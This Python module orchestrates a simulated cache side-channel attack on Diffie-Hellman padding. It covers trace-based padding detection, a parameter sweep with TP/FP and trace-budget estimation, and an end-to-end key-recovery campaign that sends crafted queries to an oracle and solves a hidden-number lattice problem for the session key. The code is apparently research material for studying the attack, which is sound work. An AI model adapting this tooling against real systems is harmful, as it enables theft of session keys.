"""Attack orchestration: padding detection in traces, the parameter sweep
with TP/FP estimation, the trace-budget estimator, and the end-to-end
simulated key-recovery campaign.

The detection rule mirrors what a padded decryption looks like through the
probe: the memory-move routine entering and returning touches the monitored
line twice in quick succession, so a trace shows two sub-threshold reloads
within a small sample distance.
"""

from __future__ import annotations

import json
import math
import time
from dataclasses import dataclass, field
from fractions import Fraction
from random import Random
from typing import Optional, Sequence

import numpy as np

from .dh import (
    AcceptedSample,
    DhGroup,
    DhKeyPair,
    OracleConfig,
    SimulatedOracle,
    craft_query,
    keygen,
    pad_probability,
    rank_and_select,
)
from .errors import BudgetExhaustedError, ValidationError
from .hnp import (
    HnpInstance,
    SolveResult,
    dimension_heuristic,
    solve_instance,
)
from .lattice import ReductionParams
from .traces import AttackParams, Trace, TraceSet


def detect_padding(trace: Trace, t: int, d: int, require_exact_pair: bool = False) -> bool:
    """True iff two sub-threshold reloads occur within d samples.

    ``require_exact_pair`` tightens the predicate to traces containing
    exactly two hits total; the default reads "two hits close together" as
    at-least-two.
    """
    if t <= 0 or d < 1:
        raise ValidationError("threshold and distance must be positive")
    hits = np.flatnonzero(trace.samples < t)
    if hits.size < 2:
        return False
    if require_exact_pair and hits.size != 2:
        return False
    # any pair within d implies some consecutive pair within d
    return bool((np.diff(hits) <= d).any())


@dataclass(frozen=True)
class SweepRow:
    strategy: str
    params: AttackParams
    tp_rate: float
    fp_rate: float
    est_traces: Optional[int]

    def to_json_dict(self) -> dict:
        return {
            "strategy": self.strategy,
            "r": self.params.r,
            "t": self.params.t,
            "d": self.params.d,
            "tp_rate": self.tp_rate,
            "fp_rate": self.fp_rate,
            "est_traces": self.est_traces,
        }


@dataclass(frozen=True)
class SweepReport:
    rows: tuple[SweepRow, ...]
    pad_prob: float
    d_required: int

    def zero_fp(self, strategy: Optional[str] = None) -> list[SweepRow]:
        return [
            r
            for r in self.rows
            if r.fp_rate == 0.0
            and r.tp_rate > 0.0
            and (strategy is None or r.strategy == strategy)
        ]

    def best(self, strategy: str) -> Optional[SweepRow]:
        cands = self.zero_fp(strategy)
        if not cands:
            return None
        return min(cands, key=lambda r: r.est_traces)

    def strategies(self) -> list[str]:
        seen = []
        for r in self.rows:
            if r.strategy not in seen:
                seen.append(r.strategy)
        return seen

    def histogram(self, strategy: str) -> list[tuple[int, int]]:
        """(trace_budget, number of parameter sets usable within it)."""
        budgets = sorted({r.est_traces for r in self.zero_fp(strategy)})
        out = []
        for b in budgets:
            count = sum(1 for r in self.zero_fp(strategy) if r.est_traces <= b)
            out.append((b, count))
        return out


def estimate_traces(tp_rate: float, pad_prob: float, d_required: int) -> int:
    """Expected capture budget: ceil(d_required / (tp_rate * pad_prob)).

    The quotient is computed exactly via rationals, then snapped to the
    nearest integer when float noise in the inputs leaves it within 1e-9
    of one (so inverting a published budget reproduces it exactly).
    """
    if not 0.0 < tp_rate <= 1.0 or not 0.0 < pad_prob <= 1.0:
        raise ValidationError("rates must lie in (0, 1]")
    if d_required < 1:
        raise ValidationError("d_required must be >= 1")
    q = Fraction(d_required) / (Fraction(tp_rate) * Fraction(pad_prob))
    nearest = round(q)
    if abs(q - nearest) <= Fraction(1, 10**9) * max(1, nearest):
        return int(nearest)
    return math.ceil(q)


def sweep(
    pad_sets: Sequence[TraceSet],
    nopad_sets: Sequence[TraceSet],
    grid: Sequence[AttackParams],
    pad_prob: float,
    d_required: int,
) -> SweepReport:
    """Evaluate every parameter triplet against labeled capture corpora.

    Sets pair up by (strategy, wait_r); the grid's r values must all be
    present in the corpora. TP is the detected fraction of pad captures,
    FP the detected fraction of no-pad captures; the budget estimate only
    exists for zero-FP rows, mirroring the best-case comparison the sweep
    is for.
    """
    if not pad_sets or not nopad_sets or not grid:
        raise ValidationError("sweep needs pad sets, no-pad sets, and a nonempty grid")

    def index(sets):
        out = {}
        for s in sets:
            key = (s.strategy.value, s.wait_r)
            if key in out:
                raise ValidationError(f"duplicate trace set for {key}")
            out[key] = s
        return out

    pads = index(pad_sets)
    nopads = index(nopad_sets)
    if set(pads) != set(nopads):
        raise ValidationError("pad and no-pad corpora must cover the same (strategy, r) keys")

    available_r = {r for (_, r) in pads}
    missing = {p.r for p in grid} - available_r
    if missing:
        raise ValidationError(f"grid r values {sorted(missing)} absent from trace metadata")

    rows = []
    for (strategy, wait_r), pad_set in sorted(pads.items()):
        nopad_set = nopads[(strategy, wait_r)]
        for params in grid:
            if params.r != wait_r:
                continue
            tp = sum(
                detect_padding(tr, params.t, params.d) for tr in pad_set.traces
            ) / len(pad_set)
            fp = sum(
                detect_padding(tr, params.t, params.d) for tr in nopad_set.traces
            ) / len(nopad_set)
            est = None
            if fp == 0.0 and tp > 0.0:
                est = estimate_traces(tp, pad_prob, d_required)
            rows.append(
                SweepRow(strategy=strategy, params=params, tp_rate=tp, fp_rate=fp, est_traces=est)
            )
    return SweepReport(rows=tuple(rows), pad_prob=pad_prob, d_required=d_required)


@dataclass(frozen=True)
class AttackRunConfig:
    """Configuration for one simulated (or hardware-driven) campaign."""

    group: DhGroup
    oracle: OracleConfig = OracleConfig()
    ell: int = 8
    d_required: Optional[int] = None  # default: dimension heuristic at c=1.35
    confidence: float = 1.35
    reduction: ReductionParams = ReductionParams()
    seed: int = 0
    max_queries: Optional[int] = None
    mode: str = "simulate"

    def __post_init__(self):
        if self.mode not in ("simulate", "hardware"):
            raise ValidationError(f"unknown attack mode {self.mode!r}")
        if not 0 < self.ell < self.group.p.bit_length():
            raise ValidationError("ell must be in (0, bits(p))")

    def required_samples(self) -> int:
        if self.d_required is not None:
            return self.d_required
        return dimension_heuristic(self.confidence, self.group.p.bit_length(), self.ell)


@dataclass
class AttackResult:
    recovered_alpha: Optional[int]
    ground_truth_alpha: Optional[int]
    solve: Optional[SolveResult]
    total_queries: int
    total_observations: int
    base_positives: int
    accepted: int
    vote_histogram: dict
    selected_false_positives: Optional[int]
    wall_time: float
    transcript: list
    advice: Optional[str] = None

    @property
    def succeeded(self) -> bool:
        return (
            self.recovered_alpha is not None
            and (self.ground_truth_alpha is None or self.recovered_alpha == self.ground_truth_alpha)
        )


def run_attack(cfg: AttackRunConfig) -> AttackResult:
    """Steps of the campaign: observe a target session, flood the victim
    with blinded decryption queries, vote away detector noise, then solve
    the resulting hidden-number instance for the session key.

    Simulate mode derives all key material deterministically from the seed
    and checks the recovered key against the ground truth. Budget
    exhaustion raises with the partial transcript attached.
    """
    if cfg.mode != "simulate":
        raise ValidationError(
            "hardware mode requires a capture pipeline; drive it through the "
            "CLI capture + detect surface instead"
        )
    start = time.monotonic()
    rng = Random(cfg.seed)
    group = cfg.group
    victim_static = keygen(group, rng)  # Alice's certificate key (a)
    session = keygen(group, rng)  # Bob's session value (b)
    ground_truth = pow(session.pub, victim_static.priv, group.p)  # g^ab

    oracle = SimulatedOracle(group, victim_static.priv, cfg.oracle)
    needed = cfg.required_samples()
    if cfg.max_queries is not None:
        budget = cfg.max_queries
    elif cfg.oracle.tp_rate > 0.0:
        # four times the expected capture count leaves generous slack
        budget = 4 * estimate_traces(cfg.oracle.tp_rate, pad_probability(group), needed)
    else:
        raise ValidationError("tp_rate 0 cannot accept samples; set max_queries explicitly")

    accepted: list[AcceptedSample] = []
    transcript = []
    base_positives = 0
    queries = 0
    while len(accepted) < needed and queries < budget:
        qidx = queries
        query = craft_query(session.pub, victim_static.pub, group, rng)
        queries += 1
        positive = oracle.observe(query, qidx, retry_index=0)
        votes = None
        ok = False
        if positive:
            base_positives += 1
            ok, votes = oracle.majority_vote(query, qidx)
            if ok:
                accepted.append(AcceptedSample(query=query, votes=votes, query_index=qidx))
        transcript.append(
            {
                "index": qidx,
                "r": f"{query.r:x}",
                "point": f"{query.point:x}",
                "t": f"{query.multiplier:x}",
                "votes": votes,
                "accepted": ok,
            }
        )
    if len(accepted) < needed:
        raise BudgetExhaustedError(
            f"budget of {budget} queries yielded {len(accepted)}/{needed} accepted samples",
            partial=transcript,
        )

    selected = rank_and_select(accepted, needed)
    vote_hist: dict = {}
    for s in accepted:
        vote_hist[s.votes] = vote_hist.get(s.votes, 0) + 1

    selected_fp = sum(1 for s in selected if not oracle.truth(s.query))

    inst = HnpInstance(
        p=group.p, ell=cfg.ell, samples=tuple(s.query.multiplier for s in selected)
    )
    solve = solve_instance(inst, cfg.reduction)

    recovered = solve.alpha
    advice = None
    if recovered is None:
        advice = (
            "no candidate satisfied all constraints: collect more samples, "
            "or escalate the reduction (BKZ with a larger block size)"
        )
    return AttackResult(
        recovered_alpha=recovered,
        ground_truth_alpha=ground_truth,
        solve=solve,
        total_queries=queries,
        total_observations=oracle.observations,
        base_positives=base_positives,
        accepted=len(accepted),
        vote_histogram=dict(sorted(vote_hist.items())),
        selected_false_positives=selected_fp,
        wall_time=time.monotonic() - start,
        transcript=transcript,
        advice=advice,
    )


# -- report emission ----------------------------------------------------------


def sweep_report_csv(report: SweepReport) -> str:
    lines = ["strategy,r,t,d,tp_rate,fp_rate,est_traces"]
    for row in report.rows:
        est = "" if row.est_traces is None else str(row.est_traces)
        lines.append(
            f"{row.strategy},{row.params.r},{row.params.t},{row.params.d},"
            f"{row.tp_rate:.6f},{row.fp_rate:.6f},{est}"
        )
    return "\n".join(lines) + "\n"


def histogram_csv(report: SweepReport) -> str:
    """Step-function data: parameter sets usable within each trace budget."""
    lines = ["strategy,trace_budget,param_sets"]
    for strategy in report.strategies():
        for budget, count in report.histogram(strategy):
            lines.append(f"{strategy},{budget},{count}")
    return "\n".join(lines) + "\n"


def sweep_report_json(report: SweepReport) -> str:
    doc = {
        "pad_prob": report.pad_prob,
        "d_required": report.d_required,
        "rows": [r.to_json_dict() for r in report.rows],
        "best": {
            s: (report.best(s).to_json_dict() if report.best(s) else None)
            for s in report.strategies()
        },
    }
    return json.dumps(doc, indent=1, sort_keys=True) + "\n"
